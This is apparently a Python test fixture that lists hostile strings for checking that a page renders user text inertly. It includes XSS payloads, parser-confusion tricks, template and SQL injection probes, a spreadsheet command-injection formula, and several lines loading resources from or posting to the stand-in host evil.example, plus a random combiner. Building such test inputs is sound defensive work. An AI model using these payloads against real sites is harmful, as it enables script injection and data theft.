"""Texts that attack a page; each must be displayed as text and have no effect.

If one worked it would set `window.ran`, open a dialog, or request an example host.
"""

from __future__ import annotations

import random

__all__ = ["ATTACKS", "hostile_strings", "seen"]

ATTACKS = [
    # Elements that run something.
    "<script>window.ran=1</script>",
    "</script><script>window.ran=1</script>",
    "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
    "<img src=x onerror='window.ran=1'>",
    "<svg onload=window.ran=1>",
    "<svg><script>window.ran=1</script></svg>",
    "<scr\0ipt>window.ran=1</scr\0ipt>",
    "<svg><animate onbegin=window.ran=1 attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<iframe src=javascript:parent.ran=1></iframe>",
    "<object data='data:text/html,<script>parent.ran=1</script>'></object><embed src=data:,x>",
    "<body onload=window.ran=1>",
    "<details open ontoggle=window.ran=1>x</details>",
    "<input autofocus onfocus=window.ran=1>",
    "<video><source onerror=window.ran=1></video>",
    "<b onmouseover=window.ran=1>bold</b>",
    # Elements that change the page, or leave it.
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    '"><style>body{display:none}</style>',
    "<style>@import 'https://evil.example/x.css';</style>",
    "<form action=https://evil.example/><button>send</button></form>",
    # Addresses that run, in markup that figures and markdown allow.
    '<a href="javascript:window.ran=1">here</a>',
    "<a href='java&#x0A;script:window.ran=1'>there</a>",
    '<a href="data:text/html,<script>opener.ran=1</script>">data</a>',
    "[here](javascript:window.ran=1) ![x](https://evil.example/x.png)",
    # What one parser reads otherwise than the next.
    "<math><mtext><table><mglyph><style><img src=x onerror=window.ran=1>",
    "<svg></p><style><a id='</style><img src=x onerror=window.ran=1>'>",
    "<noscript><p title='</noscript><img src=x onerror=window.ran=1>'>",
    "]]><!-- --!><img src=x onerror=window.ran=1>",
    "<div title='<table onmouseover=window.ran=1><h1>'>x</div>",
    "&lt;script&gt;window.ran=1&lt;/script&gt;",
    # Other languages.
    "{{ 7 * 7 }} {% raw %} ${window.ran=1} {{ cycler.__init__.__globals__ }}",
    "=HYPERLINK('https://evil.example/','x')",
    "+1+cmd|' /C calc'!A0",
    "'; window.ran=1; //\u2028window.ran=1\u2029",
    "%C0%BCscript%C0%BEwindow.ran=1 \\u003cscript\\u003e",
    # Text that hides what it is.
    "\u202e<gpj.1=nar.wodniw rorreno x=crs gmi>\u202c \u200b\ufeff",
    "a\u0301\u0302\u0303\u0304" * 30,
    "<b>" * 400 + "deep" + "</b>" * 400,
]


#: Parts that `hostile_strings` puts together.
_PARTS = [
    *("<b>", "</p>", "<br>", "<!--", "&", "&lt;", "&#x3c;", "&amp;amp;", "&nbsp;", '"', "'", "`"),
    *("=", "+", "-", "@", "\t", "\n", "\r\n", "\r", ",", ";", "|", "\\", "\\n", "\\u003c", "%00"),
    *(
        "\0",
        "\x07",
        "\x1b[31m",
        "\x1b]0;x\x07",
        "\x7f",
        "\x85",
        "\xa0",
        "\u2028",
        "\u202e",
        "\u200d",
    ),
    *(
        "\ufeff",
        "\ufffd",
        "\ufffe",
        "\u0301",
        "e\u0301",
        "\u1160",
        "\U000e0041",
        "\U0010ffff",
        "\uffff",
    ),
    *("🍇", "👩‍👩‍👧‍👦", "🇺🇦", "1️⃣", "❤︎", "ﷺ", "שלום", "مرحبا", "İı", "ßſ", "Ізюм", "ѕсrірt"),
    *(
        "NaN",
        "None",
        "null",
        "TRUE",
        "1e400",
        "007",
        "-0",
        "2022-09-10",
        "9" * 40,
        "_x000D_",
        "#REF!",
    ),
    *(
        "{{x}}",
        "{% x %}",
        "${x}",
        "%{text}",
        "%s",
        "{0}",
        "$(x)",
        "`x`",
        "<extra>",
        "</extra>",
        "$x^2$",
    ),
    *("javascript:x", "data:text/html,x", "//evil.example/x", "../../x", "C:\\x", "file:///x"),
    *(
        "' OR 1=1 --",
        "]]>",
        "<?xml ?>",
        "<![CDATA[",
        "\r\n\r\n",
        "Bcc: x@evil.example",
        "=?utf-8?q?x?=",
    ),
]


def hostile_strings(n: int, seed: int = 0) -> list[str]:
    """Return `n` different texts: the attacks, then attacks and parts put together at random."""
    draw = random.Random(seed)
    texts = dict.fromkeys(ATTACKS)
    while len(texts) < n:
        parts = draw.choices([*_PARTS, *ATTACKS[:30]], k=draw.randint(1, 6))
        texts["".join(parts)] = None
    return list(texts)[:n]


def seen(text: str) -> str:
    """Return a text as a reader sees it, whatever blanks and unseen signs are in it."""
    return " ".join("".join(sign for sign in text if sign not in "\0\ufffd\u200b\ufeff").split())
